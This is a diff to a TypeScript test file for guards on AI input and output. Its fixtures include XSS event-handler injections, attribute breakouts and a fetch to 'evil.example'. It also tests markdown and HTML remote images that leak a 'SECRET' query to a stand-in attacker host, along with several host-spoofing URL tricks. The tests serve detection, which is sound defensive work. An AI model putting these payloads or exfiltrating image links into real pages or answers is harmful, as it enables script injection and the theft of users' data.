@@ -1,6 +1,7 @@
 /**
  * The AI guards on their own: what each refuses, what passes untouched, `strip` mode, the length
- * limits at their exact edges, and that hostile inputs at the limit stay fast (no super-linear regex).
+ * limits at their exact edges, event handlers by their shape and remote images in answers. That
+ * hostile text costs linear time is proven in guards.linear.test.ts.
  */
 import { describe, expect, it } from "vitest";
 import {
@@ -38,6 +39,48 @@ describe("sanitizeAIInput", () => {
     "Describe the <b>bold</b> tag and the onboarding flow.",
   ])("lets %j through untouched", (input) => {
     expect(sanitizeAIInput(input)).toEqual({ ok: true, value: input, removed: [] });
+  });
+
+  describe("event handlers, matched by shape rather than by name", () => {
+    it.each([
+      // Inside a tag, any `on…=` attribute, whatever the event.
+      "<a oncontentvisibilityautostatechange=alert(1)>",
+      "<div/onscrollend='x()'>",
+      '<p title="x"onbeforetoggle="alert(1)">',
+      // Breaking out of a quoted attribute the text is later put in.
+      '" oncontentvisibilityautostatechange="alert(1)" x="',
+      "' onscrollend='alert(1)",
+      '"onbeforetoggle="alert(1)',
+      '"/onsomefutureevent=alert(1)',
+      // Outside a tag: a quoted value, or an unquoted one that calls something.
+      'x onbeforetoggle="alert(1)"',
+      "x onscrollend=alert(1)",
+      "x onpointerrawupdate=fetch`//evil.example`",
+    ])("refuses %j", (input) => {
+      expect(sanitizeAIInput(input)).toMatchObject({ ok: false, violation: "inline_handler" });
+      expect(validateAIResponse(input)).toMatchObject({ ok: false, violation: "inline_handler" });
+    });
+
+    it.each([
+      "Jon=5 and Ron = 6",
+      "Run it once = 3 times, then online=true.",
+      "Set one=1, noon=12 and onset = late in prose.",
+      "Once=done; on=off; only = some",
+    ])("lets prose %j through", (input) => {
+      expect(sanitizeAIInput(input)).toEqual({ ok: true, value: input, removed: [] });
+    });
+
+    it("strips an unlisted handler in strip mode", () => {
+      expect(sanitizeAIInput('<b onscrollend="x()">Hi</b>', { mode: "strip" })).toMatchObject({
+        ok: true,
+        value: "<b>Hi</b>",
+        removed: ["inline_handler"],
+      });
+      expect(sanitizeAIInput('x" onbeforetoggle="alert(1)" y', { mode: "strip" })).toMatchObject({
+        ok: true,
+        value: 'x"  y',
+      });
+    });
   });
 
   it("refuses text over the limit and accepts text at it", () => {
@@ -92,21 +135,6 @@ describe("sanitizeAIInput", () => {
       });
     });
   });
-
-  it("stays fast on hostile input at the length limit", () => {
-    const hostile = [
-      "<a ".repeat(3_333),
-      "<script ".repeat(1_250),
-      "on".repeat(5_000),
-      "&#".repeat(5_000),
-    ];
-    const started = performance.now();
-    for (const input of hostile) {
-      sanitizeAIInput(input.slice(0, MAX_AI_INPUT_LENGTH));
-      sanitizeAIInput(input.slice(0, MAX_AI_INPUT_LENGTH), { mode: "strip" });
-    }
-    expect(performance.now() - started).toBeLessThan(500);
-  });
 });
 
 describe("validateAIResponse", () => {
@@ -152,10 +180,57 @@ describe("validateAIResponse", () => {
     expect(validateAIResponse("see https://acme.com", { patterns }).ok).toBe(true);
   });
 
-  it("stays fast on hostile answers at the length limit", () => {
-    const started = performance.now();
-    validateAIResponse("<a ".repeat(MAX_AI_RESPONSE_LENGTH / 3));
-    validateAIResponse("k_live_".repeat(MAX_AI_RESPONSE_LENGTH / 7));
-    expect(performance.now() - started).toBeLessThan(500);
+  describe("remote images", () => {
+    it.each([
+      "![chart](https://evil.example/p.png?q=SECRET)",
+      "Done. ![ ]( <https://evil.example/a b.png> )",
+      "![a [nested] label](//evil.example/x.png)",
+      "![x](\n  http://evil.example/x.png)",
+      "![x](https:evil.example/x.png)",
+      "![x](ftp://evil.example/x.png)",
+      "![x](&#104;ttps://evil.example/x.png)",
+      "![x][1]\n\n[1]: https://evil.example/x.png",
+      "![logo]\n\n  [logo]:\n  <https://evil.example/x.png>",
+      "<img src=https://evil.example/x.png>",
+      '<img alt="" src="//evil.example/x.png">',
+      "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
+      "<video poster=https://evil.example/p.jpg>",
+      '<link rel=prefetch href="https://evil.example/?q=SECRET">',
+    ])("refuses %j", (output) => {
+      expect(validateAIResponse(output)).toMatchObject({ ok: false, violation: "remote_image" });
+    });
+
+    it.each([
+      "![diagram](/docs/diagram.png) and ![x](img/x.png)",
+      "![dot](data:image/png;base64,iVBORw0KGgo=)",
+      "[docs](https://acme.com/docs) is a link, not an image",
+      "[1]: https://acme.com/docs\n\nA definition with no image.",
+      '<a href="https://acme.com">a link</a>',
+      "Write \\![x](https://evil.example/x.png) to show the syntax; index it as a[i](x).",
+    ])("accepts %j", (output) => {
+      expect(validateAIResponse(output)).toEqual({ ok: true, value: output, removed: [] });
+    });
+
+    it("accepts images from listed hosts only, by exact host name", () => {
+      const options = { allowImageHosts: ["cdn.acme.com"] };
+      for (const output of [
+        "![logo](https://cdn.acme.com/logo.png)",
+        "![logo](//CDN.Acme.com/logo.png)",
+        "![l][a]\n[a]: https://cdn.acme.com/l.png",
+        '<img src="https://cdn.acme.com/x.png">',
+      ]) {
+        expect(validateAIResponse(output, options)).toMatchObject({ ok: true });
+      }
+      for (const output of [
+        "![x](https://cdn.acme.com.evil.example/x.png)",
+        "![x](https://cdn.acme.com@evil.example/x.png)",
+        "![x](https://evil.example/?cdn.acme.com)",
+        "![x](https://static.cdn.acme.com/x.png)",
+        "![ok](https://cdn.acme.com/a.png) ![x](https://evil.example/b.png)",
+        "![x](javascript:alert(1))",
+      ]) {
+        expect(validateAIResponse(output, options)).toMatchObject({ ok: false });
+      }
+    });
   });
 });
